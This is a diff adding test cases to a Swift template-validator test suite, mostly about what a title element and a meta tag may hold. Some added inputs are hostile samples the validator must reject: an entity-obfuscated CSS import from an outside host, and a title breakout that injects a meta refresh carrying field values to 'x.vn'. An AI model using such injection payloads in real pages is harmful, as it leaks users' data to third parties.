@@ -49,6 +49,21 @@ struct TemplateCheckTests {
             ("<style>p { color: \\75rl }</style>", 1, "nothing may be fetched"),
             ("<style>{{number}}</style>", 1, "takes no fields"),
             ("<style>p { }", 1, "ends inside"),
+            ("<svg><style>@&#105;mport 'https://x.vn/a.css';</style></svg>", 1, "“&”: nothing may be fetched"),
+            (
+                """
+                <title><b title="</title><meta http-equiv=refresh content='0;url=https://x.vn/?{{number}}-{{lookUp.code}}'>">
+                """, 1, "a title holds text and fields only"
+            ),
+            ("<title>\n<b>{{number}}</b></title>", 2, "a title holds text and fields only"),
+            ("<title>{{> heading}}</title>", 1, "a part may stand in text only"),
+            ("<title>{{#large}}</title>{{/large}}", 1, "begins and ends in different places"),
+            ("<title class=\"a\">x</title>", 1, "<title> takes no attributes"),
+            ("<title>{{number}}</TITLE>", 1, "a title holds text and fields only"),
+            ("<title>{{number}}", 1, "ends inside"),
+            ("<meta name=\"x\"http-equiv=\"refresh\">", 1, "the attribute “http-equiv” is not accepted"),
+            ("<META HTTP-EQUIV=refresh>", 1, "the attribute “http-equiv” is not accepted"),
+            ("<meta/http-equiv=\"refresh\"/>", 1, "the attribute “http-equiv” is not accepted"),
             ("<!-- {{number}} -->", 1, "an HTML comment"),
             ("a < b", 1, "a bare <"),
             ("\n{{number}}\u{301}", 2, "a brace with a combining mark"),
@@ -58,6 +73,11 @@ struct TemplateCheckTests {
     func mistakes(template: String, line: Int, reason: String) {
         let problems = Self.problems(template)
         #expect(problems.contains { $0.line == line && $0.reason.contains(reason) }, "\(problems)")
+    }
+
+    @Test("a title takes text, fields and sections")
+    func title() {
+        #expect(Self.problems("<title>{{form.title}} &lt; {{#number}} {{number}}{{/number}}</title><p>x</p>").isEmpty)
     }
 
     @Test("a template may be large and deep up to its limits, and no further")
@@ -79,6 +99,7 @@ struct TemplateCheckTests {
     func fuzz() {
         let pieces = [
             "{{", "}}", "{", "}", "#", "/", "^", "large", "number", "<", ">", "p", "\"", "=", "style", "</style>",
+            "<title>", "</title>",
             "class", " ", "\n", "!", "{{#large}}", "{{/large}}", "<p class=\"", "é", "\u{301}", "&",
         ]
         var random = SystemSeed(state: 9)
@@ -123,5 +144,18 @@ struct TemplateCheckTests {
         #expect(throws: TemplateProblems.self) { try compile("<p>{{period}}</p>") }
         #expect(throws: TemplateProblems.self) { try compile("{{#large}}{{#rows}}{{index}}{{/rows}}{{/large}}") }
         #expect(throws: Never.self) { try compile("<p>{{period}}</p>{{#rows}}{{index}}{{/rows}}") }
+        // The head goes out before anything is counted, and no row knows of the others.
+        #expect(throws: Never.self) { try compile("{{#rows}}{{index}} {{period}}{{/rows}}{{count}} {{total}}") }
+        for (template, line) in [
+            ("\n{{total}}{{#rows}}{{index}}{{/rows}}", 2), ("{{#rows}}\n\n{{count}}{{/rows}}", 3),
+            ("{{^rows}}x{{/rows}}{{#rows}}{{index}}{{/rows}}", 1),
+            ("{{#rows}}{{index}}{{/rows}}\n{{^rows}}x{{/rows}}", 2),
+            ("{{#rows}}{{#rows}}{{index}}{{/rows}}{{/rows}}", 1),
+            ("{{#rows}}{{index}}{{/rows}}\n{{#rows}}{{index}}{{/rows}}", 1),
+            ("<p class=\"{{#rows}}{{index}}{{/rows}}\">x</p>", 1),
+        ] {
+            let thrown = #expect(throws: TemplateProblems.self, "\(template)") { try compile(template) }
+            #expect(thrown?.entries.first?.problem.line == line, "\(template)")
+        }
     }
 }
